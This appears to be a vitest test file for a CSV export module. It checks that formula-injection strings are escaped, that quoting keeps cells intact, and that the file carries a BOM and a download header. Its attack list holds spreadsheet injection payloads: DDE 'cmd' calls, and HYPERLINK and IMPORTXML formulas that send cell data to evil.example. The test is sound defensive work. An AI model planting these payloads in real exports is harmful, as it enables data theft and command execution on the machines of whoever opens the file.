import { expect, test } from "vitest";
import { csvFile, csvHead, csvLine } from "./csv.ts";

const attacks = [
  "=1+1",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u0000=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "%0A=1+1",
  "|calc",
  "\u0001=1+1",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
];

test.each(attacks)("no spreadsheet runs %j", (attack) => {
  const line = csvLine([attack]);
  expect(line.replace(/^"/, "")).toMatch(/^'/);
});

test("nothing that is typed begins a cell of its own, or a line", () => {
  const read = parse(csvLine(['a",=1+1,"b', "c\r\n=1+1", "d,e;f", 'g"h']));
  expect(read).toEqual([['a",=1+1,"b', "c\r\n=1+1", "d,e;f", 'g"h']]);
});

test("ordinary words, numbers and dates are left as they are", () => {
  const line = csvLine(["Gwen Tarrant", "Año nuevo – 5 o’clock", -5, 12.5, new Date("2026-11-21T10:00:00Z"), null, ""]);
  expect(line).toBe("Gwen Tarrant,Año nuevo – 5 o’clock,-5,12.5,2026-11-21T10:00:00.000Z,,\r\n");
});

test("a file begins with a byte order mark and its head, says its name and is read to its end", async () => {
  async function* parts() {
    yield csvHead(["when", "who"]);
    yield csvLine(["today", "Gwen"]);
  }
  const file = csvFile("audit-2026-11-21.csv", parts());
  expect(file.headers.get("content-disposition")).toBe('attachment; filename="audit-2026-11-21.csv"');
  const bytes = new Uint8Array(await file.arrayBuffer());
  expect(Array.from(bytes.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
  expect(new TextDecoder().decode(bytes)).toBe("when,who\r\ntoday,Gwen\r\n");
});

/** Reads a CSV file as RFC 4180 has it. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
    if (end === "\r\n") rows.push([]);
  }
  return rows.slice(0, -1);
}
